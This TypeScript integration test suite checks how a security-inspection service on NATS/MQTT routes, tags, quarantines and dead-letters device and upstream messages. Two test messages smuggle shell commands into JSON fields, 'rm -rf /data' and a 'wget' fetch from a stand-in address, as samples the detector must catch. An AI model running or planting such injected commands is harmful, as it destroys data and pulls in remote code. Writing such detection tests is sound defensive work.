import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { eventually, InspectionFixture } from "../../test/support/inspection.ts";
import { headers } from "../contract/headers.ts";
import { payloadLimitBytes } from "../contract/limits.ts";
import { alertMessageId } from "../contract/message-id.ts";
import { subjects } from "../contract/subjects.ts";
import {
  type JetStreamClient,
  jetstream,
  messageHeaders,
  type NatsConnection,
} from "../shared/nats.ts";
import { publishAlert } from "./upstream-load.fixture.ts";

let fixture: InspectionFixture;
let bridge: NatsConnection;
let js: JetStreamClient;

beforeAll(async () => {
  fixture = await InspectionFixture.start();
  bridge = await fixture.nats("bridge");
  js = jetstream(bridge);
  await fixture.register(["pump-1", "pump-2", "valve-1"]);
  await fixture.register(["pump-suspended"], "suspended");
  await fixture.register(["pump-revoked"], "revoked");
});
afterAll(() => fixture?.stop());

const arrived = (stream: string, subject: string, count = 1) =>
  eventually(
    () => fixture.stored(stream, (each) => each === subject),
    (stored) => stored.length >= count,
  );

describe("what the upstream sends", () => {
  beforeAll(() => fixture.inspector("inspector-1").then(() => {}));
  afterAll(() => fixture.endInspectors());

  it("reaches its device's stream unchanged, with where and when it was handled", async () => {
    const text = '{"id":"a-1","type":"overheat","message":"91 °C"}';
    await publishAlert(js, "pump-1", text);
    const [alert] = await arrived("MQTT_ALERTS", "clients.pump-1.alerts");
    expect(alert?.text).toBe(text);
    expect(alert?.header("Nats-Msg-Id")).toMatch(/^pump-1:a-1:[0-9a-f]{16}$/);
    expect(alert?.header("Sentinel-Origin")).toBe("upstream");
    expect(alert?.header("Sentinel-Verdict")).toBe("allow");
    expect(alert?.header("Sentinel-Findings")).toBe("");
    expect(Number(alert?.header("Sentinel-Ingress-Sequence"))).toBeGreaterThan(0);
    const times = ["Received", "Ingress-Stored", "Inspected"].map((name) =>
      Number(alert?.header(`Sentinel-${name}`)),
    );
    expect(times).toEqual(times.toSorted((a, b) => a - b));
    expect(Math.abs((times[1] ?? 0) - Date.now())).toBeLessThan(60_000);
  });

  it("is delivered and tagged when it quotes an attack, and the finding becomes an event", async () => {
    await publishAlert(js, "pump-2", '{"id":"q-1","seen":"10.0.0.1 && rm -rf /data"}');
    const [alert] = await arrived("MQTT_ALERTS", "clients.pump-2.alerts");
    expect(alert?.header("Sentinel-Verdict")).toBe("tag");
    expect(alert?.header("Sentinel-Findings")).toContain("463d6845-269a-498d-b5f6-c9c3b623ae1b");
    const [event] = await arrived("SECURITY_EVENTS", "events.pattern.pump-2");
    expect(event?.header("Nats-Msg-Id")).toBe(`${alert?.header("Nats-Msg-Id")}:pattern`);
    const body = JSON.parse(event?.text ?? "");
    expect(body).toMatchObject({ class_uid: 2004, type_uid: 200401, disposition_id: 18 });
    expect(body.evidences[0].data.excerpt).toContain("rm -rf /data");
  });

  it.each([
    ["nobody-1", "recipient-unknown"],
    ["pump-suspended", "recipient-suspended"],
    ["pump-revoked", "recipient-revoked"],
  ])("is quarantined when it is for %s", async (client, rule) => {
    await publishAlert(js, client, `{"id":"${rule}"}`);
    const [held] = await arrived("QUARANTINE", `quarantine.upstream.${client}`);
    expect(held?.header("Sentinel-Findings")).toBe(rule);
    expect(held?.header("Sentinel-Verdict")).toBe("quarantine");
    await arrived("SECURITY_EVENTS", `events.recipient.${client}`);
    expect(await fixture.stored("MQTT_ALERTS", (s) => s === `clients.${client}.alerts`)).toEqual(
      [],
    );
  });

  it("is delivered with a tag while nobody can verify its recipient", async () => {
    const auth = fixture.region.process("auth-1");
    await auth.suspend();
    try {
      await publishAlert(js, "valve-1", '{"id":"u-1"}');
      const [alert] = await arrived("MQTT_ALERTS", "clients.valve-1.alerts");
      expect(alert?.header("Sentinel-Verdict")).toBe("tag");
      expect(alert?.header("Sentinel-Findings")).toBe("recipient-unverified");
      expect(await fixture.metric("inspector-1", "unverified_recipients_total")).toBe(1);
    } finally {
      auth.resume();
    }
    await publishAlert(js, "valve-1", '{"id":"u-2"}');
    const [, next] = await arrived("MQTT_ALERTS", "clients.valve-1.alerts", 2);
    expect(next?.header("Sentinel-Verdict")).toBe("allow");
  });
});

/** As an owner leaves it who was killed after it had stored what it decided, and before its cursor was past that. */
async function decidedBefore(stream: "QUARANTINE" | "MQTT_ALERTS", client: string, text: string) {
  const subject =
    stream === "QUARANTINE" ? subjects.quarantine("upstream", client) : subjects.alerts(client);
  const payload = Buffer.from(text);
  const told = messageHeaders();
  told.set(headers.messageId, alertMessageId(client, JSON.parse(text).id, payload) ?? "");
  await publishAlert(js, client, text);
  await jetstream(await fixture.nats("inspector")).publish(subject, payload, { headers: told });
}

describe("what the owner before decided, who was killed", () => {
  const idsOf = async (stream: string, subject: string) =>
    (await fixture.stored(stream, (each) => each === subject)).map(
      ({ text }) => JSON.parse(text).id,
    );
  const held = (client: string) => idsOf("QUARANTINE", subjects.quarantine("upstream", client));
  const passed = (client: string) => idsOf("MQTT_ALERTS", subjects.alerts(client));

  it("is decided: there are no two verdicts of one message, whatever is known by now", async () => {
    await fixture.register(["held-then-active"]);
    await fixture.register(["passed-then-suspended"], "suspended");
    const before = await fixture.inspector("inspector-3");
    await eventually(
      () => fixture.shares(),
      ([owned]) => owned === 12,
    );
    before.kill("SIGKILL");
    await before.exited();
    await decidedBefore("QUARANTINE", "held-then-active", '{"id":"first"}');
    await decidedBefore("MQTT_ALERTS", "passed-then-suspended", '{"id":"first"}');
    for (const client of ["held-then-active", "passed-then-suspended"]) {
      await publishAlert(js, client, '{"id":"second"}');
    }

    await fixture.inspector("inspector-4");

    // In order for each device: with the second one, the first has been looked at again.
    await eventually(
      () => passed("held-then-active"),
      (ids) => ids.includes("second"),
    );
    await eventually(
      () => held("passed-then-suspended"),
      (ids) => ids.includes("second"),
    );
    expect(await held("held-then-active")).toEqual(["first"]);
    expect(await passed("held-then-active")).toEqual(["second"]);
    expect(await held("passed-then-suspended")).toEqual(["second"]);
    expect(await passed("passed-then-suspended")).toEqual(["first"]);
    await fixture.endInspectors();
  });
});

describe("what a device sends", () => {
  beforeAll(() => fixture.inspector("report-inspector-1").then(() => {}));
  afterAll(() => fixture.endInspectors());

  it("reaches REPORTS when it is clean and QUARANTINE when it attacks", async () => {
    const device = await fixture.device("pump-1");
    const topic = "clients/pump-1/reports";
    await device.publishAsync(topic, '{"temperature":21.5}', { qos: 1 });
    await device.publishAsync(topic, '{"ntp":"pool.ntp.org; wget http://198.51.100.7/a"}', {
      qos: 1,
    });

    const [report] = await arrived("REPORTS", "reports.pump-1");
    expect(report?.text).toBe('{"temperature":21.5}');
    expect(report?.header("Sentinel-Origin")).toBe("device");
    expect(Number(report?.header("Sentinel-Ingress-Sequence"))).toBeGreaterThan(0);
    expect(report?.header("Nats-Msg-Id")).toMatch(/^pump-1:[0-9a-f-]{36}:\d+$/);
    const [held] = await arrived("QUARANTINE", "quarantine.device.pump-1");
    expect(held?.text).toContain("wget");
    expect(held?.header("Sentinel-Verdict")).toBe("quarantine");
    await arrived("SECURITY_EVENTS", "events.pattern.pump-1");
  });

  it("does not reach the device's own alerts", async () => {
    const stored = await fixture.stored("MQTT_ALERTS", (s) => s === "clients.pump-1.alerts");
    expect(stored.filter((alert) => alert.header("Sentinel-Origin") !== "upstream")).toEqual([]);
  });
});

it("gives an oversized message to DEAD_LETTER with its reason", async () => {
  await fixture.inspector("inspector-1");
  const text = JSON.stringify({ id: "big", message: "x".repeat(payloadLimitBytes) });
  await publishAlert(js, "pump-1", text);
  const [letter] = await arrived("DEAD_LETTER", "deadletter.inspector.payload-too-large");
  expect(letter?.text).toBe(text);
  expect(letter?.header("Sentinel-Reason")).toBe("payload-too-large");
  expect(letter?.header("Sentinel-Topic")).toBe("clients%2Fpump-1%2Falerts");
});

it("purges what every partition is past, also behind partitions that are idle", async () => {
  await fixture.inspector("inspector-2");
  await eventually(
    () => fixture.messagesIn("INGRESS"),
    (count) => count === 0,
    58_000,
  );
});

describe("the rule pack", () => {
  let directory: string;
  afterEach(() => rmSync(directory, { recursive: true }));

  it("ends the process with the reasons when it is refused", async () => {
    directory = mkdtempSync(join(tmpdir(), "sentinel-rules-"));
    writeFileSync(join(directory, "pack.yaml"), "name: broken\nversion: 1.0.0\n");
    writeFileSync(join(directory, "rule.yaml"), "title: Half a rule\n");
    const start = fixture.inspector("inspector-9", { RULES_DIRECTORY: directory });
    await expect(start).rejects.toThrow("ended with 1");
    expect(fixture.logOf("inspector-9")).toContain('rule.yaml: rule \\"Half a rule\\"');
  });
});
